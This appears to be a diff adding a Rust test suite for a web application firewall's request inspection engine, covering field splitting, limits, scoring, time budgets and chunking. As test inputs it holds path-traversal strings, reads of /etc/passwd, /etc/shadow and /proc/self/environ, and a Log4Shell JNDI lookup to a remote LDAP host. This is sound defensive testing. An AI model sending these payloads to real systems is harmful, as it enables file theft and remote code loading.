@@ -1,0 +1,283 @@
+//! The inspection as a caller sees it: splitting, limits, score, budget, and that chunking makes no difference.
+#![allow(clippy::unwrap_used, reason = "tests")]
+
+use std::cell::Cell;
+use std::sync::{Arc, OnceLock};
+use std::time::Duration;
+
+use proptest::prelude::*;
+use waf_detection::Engine;
+use waf_detection::body::{BodyKind, Cut};
+use waf_detection::budget::Budget;
+use waf_detection::field::Place;
+use waf_detection::inspection::{Bounds, Inspection, OnHit};
+use waf_detection::verdict::Verdict;
+use waf_detection::view::View;
+use waf_shared::catalog::{Leaf, LeafSet};
+
+const BOUNDS: Bounds = Bounds { json_depth: 20, json_keys: 1000, max_inspect_size: 128 << 10 };
+
+fn engine() -> Arc<Engine> {
+    static ENGINE: OnceLock<Arc<Engine>> = OnceLock::new();
+    Arc::clone(ENGINE.get_or_init(|| Arc::new(Engine::new())))
+}
+
+/// Leaves with well-known rules and the limits, so that these tests do not depend on other rules.
+fn leaves() -> LeafSet {
+    LeafSet::from_iter([
+        Leaf::LocalFileAccessDotDotPaths,
+        Leaf::LocalFileAccessOsFiles,
+        Leaf::LocalFileAccessDotfiles,
+        Leaf::JavaInjectionLog4shell,
+        Leaf::ScannerDetectionUserAgent,
+        Leaf::RequestValidationArgumentLimits,
+        Leaf::HttpComplianceMalformedBody,
+        Leaf::JsonParsingMaxDepth,
+        Leaf::JsonParsingMaxKeys,
+        Leaf::ResourceLimitsEvaluationTimeout,
+    ])
+}
+
+fn inspection(on_hit: OnHit) -> Inspection {
+    Inspection::new(engine(), leaves(), BOUNDS, on_hit, Budget::UNLIMITED)
+}
+
+fn body(media_type: &str, chunks: &[&[u8]], cut: Cut) -> Verdict {
+    let mut inspection = inspection(OnHit::GoOn);
+    inspection.body(media_type.as_bytes());
+    for chunk in chunks {
+        inspection.feed(chunk);
+    }
+    inspection.finish_body(cut);
+    inspection.verdict().clone()
+}
+
+fn places(verdict: &Verdict) -> Vec<(Place, String)> {
+    verdict.matches.iter().map(|m| (m.place, String::from_utf8_lossy(&m.name).into_owned())).collect()
+}
+
+#[test]
+fn the_head_is_split_into_fields() {
+    let mut inspection = inspection(OnHit::GoOn);
+    inspection.path(b"/a/..%2f..%2fb");
+    inspection.query(b"q=hello+world&file=%2Fetc%2Fpasswd&/proc/self/environ");
+    inspection.header(b"Cookie", b"a=1; theme=\"../../../x\"; b=2");
+    inspection.header(b"X-Api-Version", b"${jndi:ldap://203.0.113.5/a}");
+    inspection.header(b"User-Agent", b"sqlmap/1.8");
+    let found = places(inspection.verdict());
+    for (place, name) in [
+        (Place::Path, ""),
+        (Place::Query, "file"),
+        (Place::Query, ""),
+        (Place::Cookie, "theme"),
+        (Place::Header, "X-Api-Version"),
+        (Place::Header, "User-Agent"),
+    ] {
+        assert!(found.contains(&(place, name.to_owned())), "{place} {name}: {found:?}");
+    }
+    let file = inspection.verdict().matches.iter().find(|m| m.name == b"file").unwrap();
+    assert_eq!((file.view, file.excerpt.as_slice()), (View::Percent, &b"/etc/passwd"[..]));
+}
+
+#[test]
+fn everyday_heads_pass() {
+    let mut inspection = inspection(OnHit::GoOn);
+    inspection.path(b"/products/42/reviews");
+    inspection.query(b"page=2&sort=price&q=fish+%26+chips");
+    inspection.header(b"Accept", b"text/html,*/*;q=0.8");
+    inspection.header(b"Referer", b"https://shop.example.org/a/b?next=%2Fcart");
+    inspection.header(b"Cookie", b"_ga=GA1.2.5428161883.1795742985; theme=dark");
+    assert!(!inspection.verdict().blocks() && inspection.verdict().matches.is_empty());
+}
+
+#[test]
+fn blocking_ends_with_the_field_and_reset_forgets_it() {
+    let mut inspection = inspection(OnHit::Stop);
+    inspection.query(b"a=/etc/passwd&b=/etc/shadow");
+    inspection.header(b"User-Agent", b"sqlmap/1.8");
+    assert!(inspection.verdict().blocks());
+    assert!(places(inspection.verdict()).iter().all(|(_, name)| name == "a"));
+    inspection.reset(leaves(), BOUNDS, OnHit::GoOn, Budget::UNLIMITED);
+    assert!(!inspection.verdict().blocks());
+    inspection.query(b"a=/etc/passwd&b=/etc/shadow");
+    let all = places(inspection.verdict());
+    assert_eq!((all.len(), all[1].1.as_str()), (2, "b"));
+}
+
+#[test]
+fn weak_evidence_of_one_technique_never_blocks_over_fields() {
+    let mut inspection = inspection(OnHit::GoOn);
+    inspection.query(b"a=../x&b=../y&c=../z&d=../u");
+    let verdict = inspection.verdict();
+    assert_eq!((verdict.matches.len(), verdict.score, verdict.blocks()), (4, 4, false));
+}
+
+#[test]
+fn a_leaf_that_is_off_finds_nothing() {
+    let mut inspection = Inspection::new(engine(), LeafSet::EMPTY, BOUNDS, OnHit::GoOn, Budget::UNLIMITED);
+    inspection.query(b"a=/etc/passwd");
+    inspection.query("x&".repeat(2000).as_bytes());
+    assert!(inspection.verdict().matches.is_empty() && !inspection.verdict().blocks());
+}
+
+#[test]
+fn argument_limits_hold() {
+    let violates = |query: &str| {
+        let mut inspection = inspection(OnHit::GoOn);
+        inspection.query(query.as_bytes());
+        inspection.verdict().leaves().contains(Leaf::RequestValidationArgumentLimits)
+    };
+    assert!(!violates(&"a=1&".repeat(1000)) && violates(&"a=1&".repeat(1001)));
+    let name = |bytes| format!("{}=1", "n".repeat(bytes));
+    assert!(!violates(&name(256)) && violates(&name(257)));
+}
+
+#[test]
+fn bodies_are_read_by_their_type() {
+    let kind = |media_type: &str| inspection(OnHit::GoOn).body(media_type.as_bytes());
+    assert_eq!(kind("application/json"), BodyKind::Json);
+    assert_eq!(kind("multipart/form-data; boundary=x"), BodyKind::None);
+    let form = body("application/x-www-form-urlencoded", &[b"a=1&f=..%2F..%2F..%2Fetc%2Fpasswd"], Cut::Whole);
+    assert!(places(&form).contains(&(Place::Form, "f".into())));
+    let json = body("application/json", &[br#"{"a": {"f": "\u002fetc\u002fpasswd"}}"#], Cut::Whole);
+    assert_eq!(places(&json), [(Place::Json, "a.f".into())]);
+    let text = body("text/plain", &[b"/etc/passwd"], Cut::Whole);
+    assert_eq!(places(&text), [(Place::Body, String::new())]);
+    let sniffed = body("text/plain", &[br#"{"f": "\u002fetc\u002fpasswd"}"#], Cut::Whole);
+    assert!(places(&sniffed).contains(&(Place::Json, "f".into())));
+}
+
+#[test]
+fn malformed_json_is_refused_and_its_rest_is_judged() {
+    let verdict = body("application/json", &[br#"{"a": 1, oops "f": "/etc/passwd"}"#], Cut::Whole);
+    assert!(verdict.leaves().contains(Leaf::HttpComplianceMalformedBody) && verdict.blocks());
+    assert!(verdict.leaves().contains(Leaf::LocalFileAccessOsFiles));
+    assert!(!body("application/json", &[br#"{"a": "b"#], Cut::CutOff).blocks());
+    assert!(body("application/json", &[br#"{"a": "b"#], Cut::Whole).blocks());
+    assert!(!body("application/json", &[], Cut::Whole).blocks());
+}
+
+#[test]
+fn bytes_beyond_the_inspected_size_are_passed_over() {
+    let mut long = b"a=".to_vec();
+    long.resize(BOUNDS.max_inspect_size as usize, b'x');
+    let filled = body("application/x-www-form-urlencoded", &[&long, b"&f=/etc/passwd"], Cut::Whole);
+    assert!(filled.matches.is_empty());
+    let json = [b"[\"", long.as_slice()].concat();
+    assert!(!body("application/json", &[&json, b"\"] trailing"], Cut::Whole).blocks());
+}
+
+#[test]
+fn attacks_behind_a_long_filling_are_found() {
+    for at in [1000, 65_530, 65_536, 61_440, 120_000] {
+        let mut value = "A".repeat(at).into_bytes();
+        value.extend_from_slice(b" ${jndi:ldap://203.0.113.5/a} ");
+        value.resize(at + 4000, b'B');
+        let form = [b"a=".as_slice(), &value].concat();
+        let verdict = body("application/x-www-form-urlencoded", &[&form], Cut::Whole);
+        assert!(verdict.leaves().contains(Leaf::JavaInjectionLog4shell), "{at}");
+        assert!(body("", &[&value], Cut::Whole).leaves().contains(Leaf::JavaInjectionLog4shell), "{at}");
+    }
+}
+
+thread_local! {
+    static NOW: Cell<u64> = const { Cell::new(0) };
+}
+
+/// A clock that runs a millisecond with each look.
+fn ticking() -> Duration {
+    NOW.with(|now| {
+        now.set(now.get() + 1);
+        Duration::from_millis(now.get())
+    })
+}
+
+#[test]
+fn running_out_of_budget_is_a_violation() {
+    let run = |limit, leaves| {
+        let budget = Budget { limit: Duration::from_millis(limit), clock: ticking };
+        let mut inspection = Inspection::new(engine(), leaves, BOUNDS, OnHit::GoOn, budget);
+        inspection.body(b"text/plain");
+        inspection.feed("../ ".repeat(30_000).as_bytes());
+        inspection.finish_body(Cut::Whole);
+        inspection.verdict().clone()
+    };
+    let short = run(3, leaves());
+    assert!(
+        short.timed_out && short.leaves().contains(Leaf::ResourceLimitsEvaluationTimeout) && short.blocks()
+    );
+    let long = run(100_000, leaves());
+    assert!(!long.timed_out);
+    let mut unenforced = leaves();
+    unenforced.remove(Leaf::ResourceLimitsEvaluationTimeout);
+    assert!(!run(3, unenforced).timed_out);
+}
+
+#[test]
+fn small_heads_never_look_at_the_clock() {
+    let budget =
+        Budget { limit: Duration::from_millis(50), clock: || unreachable!("a small head needs no clock") };
+    let mut inspection = Inspection::new(engine(), leaves(), BOUNDS, OnHit::Stop, budget);
+    inspection.path(b"/products/42");
+    inspection.query(b"page=2&sort=price");
+    inspection.header(b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36");
+    inspection.header(b"Cookie", "session=0123456789abcdef; ".repeat(16).as_bytes());
+    assert!(!inspection.verdict().blocks());
+}
+
+#[test]
+fn the_rule_set_has_one_name() {
+    assert_eq!(Engine::new().rule_set_digest(), engine().rule_set_digest());
+}
+
+fn verdicts_agree(one: &Verdict, other: &Verdict) -> bool {
+    let shape = |verdict: &Verdict| {
+        let matches: Vec<_> = verdict
+            .matches
+            .iter()
+            .map(|m| (m.rule.id, m.place, m.name.clone(), m.view, m.offset, m.excerpt.clone()))
+            .collect();
+        (matches, verdict.violations.clone(), verdict.score)
+    };
+    shape(one) == shape(other)
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn chunks_make_no_difference(
+        kind in prop::sample::select(&["application/json", "application/x-www-form-urlencoded", "text/plain"][..]),
+        pieces in prop::collection::vec(
+            prop::sample::select(&[
+                "{\"a\":", "\"b\"", "}", "[", "]", ",", ":", "\"k\":", "1.5", "&", "=", "f=", "a=1", "%2e%2e%2f", "../../../",
+                "/etc/passwd", "${jndi:", "ldap}", "\\u002f", "\\", "\"", " ", "+", "é", "\u{1F600}", "true", "nul", "\n",
+            ][..]),
+            0..40,
+        ),
+        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..10),
+        cut_off in any::<bool>(),
+    ) {
+        let document = pieces.concat().into_bytes();
+        let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut.index(document.len() + 1)).collect();
+        cuts.extend([0, document.len()]);
+        cuts.sort_unstable();
+        let chunks: Vec<&[u8]> = cuts.windows(2).map(|pair| &document[pair[0]..pair[1]]).collect();
+        let cut = if cut_off { Cut::CutOff } else { Cut::Whole };
+        let (whole, parts) = (body(kind, &[&document], cut), body(kind, &chunks, cut));
+        prop_assert!(verdicts_agree(&whole, &parts), "{whole:?}\n{parts:?}");
+    }
+
+    #[test]
+    fn no_bytes_bring_it_down(bytes in prop::collection::vec(any::<u8>(), 0..600), kind in 0..3_usize) {
+        let mut inspection = inspection(OnHit::GoOn);
+        inspection.path(&bytes);
+        inspection.query(&bytes);
+        inspection.header(b"Cookie", &bytes);
+        inspection.header(b"X-Anything", &bytes);
+        inspection.body([&b"application/json"[..], b"application/x-www-form-urlencoded", b""][kind]);
+        inspection.feed(&bytes);
+        inspection.finish_body(Cut::Whole);
+        prop_assert!(inspection.verdict().matches.len() <= 32);
+    }
+}
